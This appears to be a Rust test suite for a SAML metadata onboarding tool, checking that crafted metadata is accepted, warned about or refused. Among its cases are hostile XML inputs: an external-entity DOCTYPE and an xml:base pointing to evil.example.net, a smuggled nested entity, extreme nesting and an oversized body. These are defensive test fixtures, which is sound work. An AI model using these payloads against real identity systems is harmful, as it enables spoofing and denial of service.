//! SAML metadata: the ordinary document with one edit each.

use super::Outcome;
use crate::support::metadata::{encoded, with_certificates};
use crate::support::product::{acme_corp, written};
use crate::support::provider::{Behaviour, Provider, Reply, Route};
use crate::support::question::{Verdicts, assert_printable};
use crate::support::world::World;

const METADATA: &str = "urn:oasis:names:tc:SAML:2.0:metadata";
const SAML2: &str = "urn:oasis:names:tc:SAML:2.0:protocol";

/// The ordinary document with a place for its certificate; no declaration, one line.
fn ordinary() -> String {
    format!(
        "<md:EntityDescriptor xmlns:md=\"{METADATA}\" entityID=\"https://idp.acme-corp.com/saml\">\
         <md:IDPSSODescriptor protocolSupportEnumeration=\"{SAML2}\"><md:KeyDescriptor use=\"signing\">\
         <ds:KeyInfo xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"><ds:X509Data><ds:X509Certificate>{{CERT}}\
         </ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>\
         <md:SingleSignOnService Binding=\"urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect\" \
         Location=\"https://idp.acme-corp.com/saml/sso\"/></md:IDPSSODescriptor></md:EntityDescriptor>"
    )
}

fn edited(from: &str, to: &str) -> Vec<u8> {
    let text = ordinary().replace(from, to);
    assert_ne!(text, ordinary(), "{from}");
    with_certificates(&text).into_bytes()
}

fn with_key(kind: &str) -> Vec<u8> {
    edited("{CERT}", &format!("{{CERT:{kind}}}"))
}

fn plain(text: &str) -> Vec<u8> {
    with_certificates(text).into_bytes()
}

fn broken_signature() -> Vec<u8> {
    let file = crate::support::metadata::folder().join("signed-rsa/document.xml");
    let text = std::fs::read_to_string(file).unwrap();
    text.replacen("<ds:SignatureValue>", "<ds:SignatureValue>AAAA", 1).into_bytes()
}

fn rows() -> Vec<(&'static str, Outcome, Vec<u8>)> {
    use Outcome::{Accept, Normalise, Reject, Warn};
    let entity = " entityID=\"https://idp.acme-corp.com/saml\"";
    let role = "<md:IDPSSODescriptor ";
    let second = ordinary().replace("https://idp.acme-corp.com/saml\"", "https://idp2.acme-corp.com/saml\"");
    let service_provider = format!(
        "<md:EntityDescriptor xmlns:md=\"{METADATA}\" entityID=\"https://sp.x.com\">\
         <md:SPSSODescriptor protocolSupportEnumeration=\"{SAML2}\"/></md:EntityDescriptor>"
    );
    let xml_base = ordinary()
        .replace(role, "<md:IDPSSODescriptor xml:base=\"https://evil.example.net/\" ")
        .replace("https://idp.acme-corp.com/saml/sso", "/saml/sso");
    let doctype = format!("<!DOCTYPE x [<!ENTITY % p SYSTEM \"https://evil.example.net/p\"> %p;]>{}", ordinary());
    let nested = "<md:Extensions><md:EntityDescriptor entityID=\"https://evil.example.net\"/></md:Extensions>";
    let long =
        ordinary().replace("</md:IDPSSODescriptor>", "<md:NameIDFormat>{LONG}</md:NameIDFormat></md:IDPSSODescriptor>");
    vec![
        ("sam-004", Reject("xml_syntax"), plain(&format!("\n<?xml version=\"1.0\"?>{}", ordinary()))),
        ("sam-005", Accept, encoded(&with_certificates(&ordinary()), Some("utf-16le-bom"))),
        (
            "sam-010",
            Normalise("cert_mended"),
            edited("{CERT}", "-----BEGIN CERTIFICATE-----\n{CERT}\n-----END CERTIFICATE-----"),
        ),
        ("sam-023", Reject("cert_weak_sig"), with_key("md5")),
        ("sam-026", Reject("cert_weak_key"), with_key("rsa512")),
        ("sam-027", Reject("cert_weak_key"), with_key("dsa1024")),
        ("sam-029", Warn("cert_alg_unusual"), with_key("ed25519")),
        ("sam-031", Warn("cert_v1"), with_key("v1")),
        ("sam-050", Reject("endpoint_syntax"), edited("/saml/sso\"", "/saml/sso#x\"")),
        ("sam-052", Reject("xml_base"), plain(&xml_base)),
        ("sam-057", Reject("xml_schema"), edited(role, "<md:IDPSSODescriptor WantAuthnRequestsSigned=\"maybe\" ")),
        ("sam-061", Accept, edited("\"https://idp.acme-corp.com/saml\"", "\"http://idp.acme-corp.com/saml\"")),
        (
            "sam-064",
            Reject("entity_id_taken"),
            edited("\"https://idp.acme-corp.com/saml\"", "\"https://idp.rival.com/saml\""),
        ),
        ("sam-066", Reject("xml_syntax"), edited(entity, &format!("{entity} entityID=\"x\""))),
        (
            "sam-069",
            Reject("entity_ambiguous"),
            plain(&format!(
                "<md:EntitiesDescriptor xmlns:md=\"{METADATA}\">{}{second}</md:EntitiesDescriptor>",
                ordinary()
            )),
        ),
        ("sam-072", Reject("sp_metadata"), service_provider.into_bytes()),
        ("sam-073", Reject("saml_version"), edited(SAML2, "urn:oasis:names:tc:SAML:1.1:protocol")),
        ("sam-074", Reject("xml_namespace"), edited(METADATA, &format!("{METADATA}#"))),
        (
            "sam-076",
            Accept,
            plain(&ordinary().replace("xmlns:ds", "xmlns:md").replace("ds:", "md:").replace("md:md:", "md:")),
        ),
        ("sam-078", Accept, edited(role, &format!("{nested}{role}"))),
        ("sam-083", Accept, edited(entity, &format!("{entity} cacheDuration=\"P10000Y\""))),
        ("sam-087", Reject("xml_doctype"), plain(&doctype)),
        ("sam-094", Reject("xml_too_deep"), ("<a>".repeat(100_000) + &"</a>".repeat(100_000)).into_bytes()),
        ("sam-097", Reject("body_too_large"), plain(&long.replace("{LONG}", &"x".repeat(50 * 1024 * 1024)))),
        ("sam-107", Reject("input_empty"), Vec::new()),
        ("sam-108", Reject("input_is_archive"), b"PK\x03\x04\x14\0\0\0\x08\0metadata.xml".to_vec()),
        ("sam-111", Warn("metadata_bad_signature"), broken_signature()),
    ]
}

pub(super) fn table() -> Vec<(&'static str, Outcome)> {
    let by_address = [("sam-115", Outcome::Accept)];
    rows().into_iter().map(|(id, outcome, _)| (id, outcome)).chain(by_address).collect()
}

fn onboard(world: &World, owner: &str, metadata: &str, further: &[String]) -> Verdicts {
    let words = ["onboard", "--yes", "--output", "json", "--owner", owner, "--metadata", metadata];
    Verdicts::of(world.ssoctl(words.iter().map(ToString::to_string).chain(further.iter().cloned())))
}

/// Compares report, exit status and database with `expected`; what was there before is not counted.
#[track_caller]
fn comes_of_it(id: &str, world: &World, said: &Verdicts, expected: Outcome, before: usize) {
    let (exit, more, action) = match expected {
        Outcome::Accept | Outcome::Normalise(_) | Outcome::Warn(_) => (0, 1, "onboarded"),
        Outcome::Reject(_) => (1, 0, "refused"),
        Outcome::Unknown(_) => (3, 0, "refused"),
    };
    assert_eq!(said.code(), Some(exit), "{id}: {}", said.table());
    match expected {
        Outcome::Accept => assert!(!said.table().contains("warn"), "{id}: {}", said.table()),
        Outcome::Normalise(code) | Outcome::Warn(code) | Outcome::Reject(code) | Outcome::Unknown(code) => {
            assert!(said.says(code), "{id}: {}", said.table());
        }
    }
    let (active, actions) = written(world);
    assert_eq!((active, actions.len()), (before + more, before + 1), "{id}: {}", said.table());
    assert_eq!(actions.last().map(String::as_str), Some(action), "{id}");
    if let Outcome::Warn(code) = expected {
        let details = world.sql("SELECT details FROM sso_audit_log").concat().concat();
        assert!(details.contains(code), "{id}: the warning is not in the audit record: {details}");
    }
    assert_printable(&said.run);
}

fn run(part: &str) {
    for (id, expected, bytes) in rows().into_iter().filter(|(id, ..)| id.starts_with(part)) {
        let world = acme_corp();
        let path = world.write("metadata.xml", &bytes).display().to_string();
        let taken = matches!(expected, Outcome::Reject("entity_id_taken"));
        if taken {
            assert_eq!(onboard(&world, "owner@rival.com", &path, &[]).code(), Some(0), "{id}");
        }
        let said = onboard(&world, "owner@acme-corp.com", &path, &[]);
        comes_of_it(id, &world, &said, expected, usize::from(taken));
        if id == "sam-078" {
            let stored = world.sql("SELECT entity_id FROM sso_connections").concat();
            assert_eq!(stored, ["https://idp.acme-corp.com/saml"], "{id}");
        }
    }
}

#[test]
fn metadata_as_it_is_sent() {
    run("sam-00");
    run("sam-01");
    run("sam-1");
}

#[test]
fn certificates_of_every_kind() {
    run("sam-02");
    run("sam-03");
}

#[test]
fn addresses_and_names() {
    run("sam-05");
    run("sam-06");
}

#[test]
fn roles_and_namespaces() {
    run("sam-07");
    run("sam-08");
}

#[test]
fn metadata_of_every_depth_and_length() {
    run("sam-09");
}

#[test]
fn metadata_at_an_address() {
    let text = with_certificates(&ordinary());
    let provider = Provider::new().on(Route::Elsewhere, Behaviour::reply(Reply::new(200, "text/xml", text))).start();
    let world = acme_corp();
    let url = format!("{}/saml/metadata", provider.origin());
    let said = onboard(&world, "owner@acme-corp.com", &url, &provider.access());
    // That the address is on loopback is said, and has nothing to do with the metadata.
    assert_eq!((said.code(), written(&world).0), (Some(0), 1), "sam-115: {}", said.table());
}
